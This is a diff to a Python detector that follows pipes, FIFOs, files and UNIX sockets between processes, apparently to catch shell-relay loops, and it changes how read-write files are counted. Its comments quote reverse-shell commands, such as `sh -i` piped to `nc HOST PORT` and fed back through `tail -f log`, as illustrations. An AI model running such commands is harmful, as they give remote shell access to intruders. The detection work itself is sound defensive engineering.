@@ -142,14 +142,15 @@ def _may_be_pipe(link: str) -> bool:
 
 def shell_streams(pid: int, stdio: tuple[str, ...]) -> tuple[frozenset, frozenset] | None:
     """(what it reads on stdin, what it writes on stdout and stderr) of a process whose stdin
-    and stdout or stderr are pipes or FIFOs (``stdio``: the links of its fds 0-2), else None."""
+    is a pipe or FIFO and its stdout or stderr one or a regular file (``stdio``: the links of
+    its fds 0-2), else None."""
     if not may_be_piped(stdio):
         return None
     stdin = pipe_end(pid, 0, stdio[0])
     if stdin is None:
         return None
-    outputs = frozenset(end for fd in (1, 2) if stdio[fd]
-                        and (end := pipe_end(pid, fd, stdio[fd])) is not None)
+    outputs = frozenset(end for fd in (1, 2) if stdio[fd]  # (a log its relay follows)
+                        and (end := pipe_end(pid, fd, stdio[fd], files=True)) is not None)
     return (frozenset({stdin}), outputs) if outputs else None
 
 
@@ -181,7 +182,8 @@ def stdio_links(pid: int) -> tuple[str, ...]:
 
 def read_ends(pid: int, peers: UnixPeers | None = None) -> Ends:
     """The pipes, FIFOs and regular files ``pid`` has open, each as read or written
-    (fdinfo's flags), and, given ``peers``, its connected UNIX sockets, each both. A file
+    (fdinfo's flags; a file open read-write only as written: a store), and, given
+    ``peers``, its connected UNIX sockets, each both. A file
     closes a loop as a FIFO does where one process appends to it and another follows it
     (`tail -f log | sh -i 2>&1 | nc HOST PORT >> log`), and a UNIX socket where its two ends'
     holders pass on what they read (`… | nc -U SOCKET > f` to a relay holding the
@@ -200,7 +202,10 @@ def read_ends(pid: int, peers: UnixPeers | None = None) -> Ends:
         except OSError:
             continue  # closed meanwhile
         if mode is not None:
-            if mode != os.O_WRONLY:
+            # a file open read-write is written, not followed: a store (a database, a lock
+            # file) would otherwise join every two processes sharing it; `nc … 1<>log` still
+            # feeds `tail -f log`
+            if mode == os.O_RDONLY or (mode == os.O_RDWR and not end.startswith("file:")):
                 reads.add(end)
             if mode != os.O_RDONLY:
                 writes.add(end)
